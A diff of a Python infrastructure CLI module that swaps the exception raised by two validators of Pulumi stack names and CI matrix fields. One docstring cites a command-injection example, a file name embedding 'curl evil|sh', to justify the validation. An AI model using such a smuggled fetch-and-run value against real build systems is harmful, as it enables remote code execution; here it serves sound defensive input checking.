@@ -59,23 +59,23 @@ def checked_stack_name(path: Path) -> str:
     """The stack a stack file's name names, refused unless it is a stack name (a lowercase DNS
     label of at most 30): the name goes into CI job matrices, role names and shell commands, so a
     file named `Pulumi.x;curl evil|sh.yaml` must never become a stack."""
-    from infra.cli.offline import StackNotFound
+    from infra.cli.option_files import OptionFileError
     from infra.config.base import DNS_LABEL
 
     stack = path.name[len("Pulumi."):-len(".yaml")]
     if not re.fullmatch(DNS_LABEL, stack):
-        raise StackNotFound(f"stacks/{path.name}: {stack[:60]!r} is not a stack name (a lowercase DNS label of at most 30: a-z, 0-9, '-'): rename the file")
+        raise OptionFileError(f"stacks/{path.name}: {stack[:60]!r} is not a stack name (a lowercase DNS label of at most 30: a-z, 0-9, '-'): rename the file")
     return stack
 
 
 def _checked(entry: dict[str, Any], path: Path) -> dict[str, Any]:
     """What the matrix carries from a stack file into CI, refused unless it has the shape the
     config model would give it (the model itself runs in `plan`/`check`)."""
-    from infra.cli.offline import StackNotFound
+    from infra.cli.option_files import OptionFileError
 
     for key, pattern in (("region", r"[a-z]{2}(-[a-z]+)+-\d"), ("account", r"\d{12}"), ("deployEnvironment", r"[A-Za-z0-9._-]{1,255}")):
         if key in entry and not (isinstance(entry[key], str) and re.fullmatch(pattern, entry[key])):
-            raise StackNotFound(f"stacks/{path.name}: {key} {str(entry[key])[:60]!r} is not one CI can use; run `higgsfield plan {entry['stack']}` for the stack's problems")
+            raise OptionFileError(f"stacks/{path.name}: {key} {str(entry[key])[:60]!r} is not one CI can use; run `higgsfield plan {entry['stack']}` for the stack's problems")
     return entry
 
 
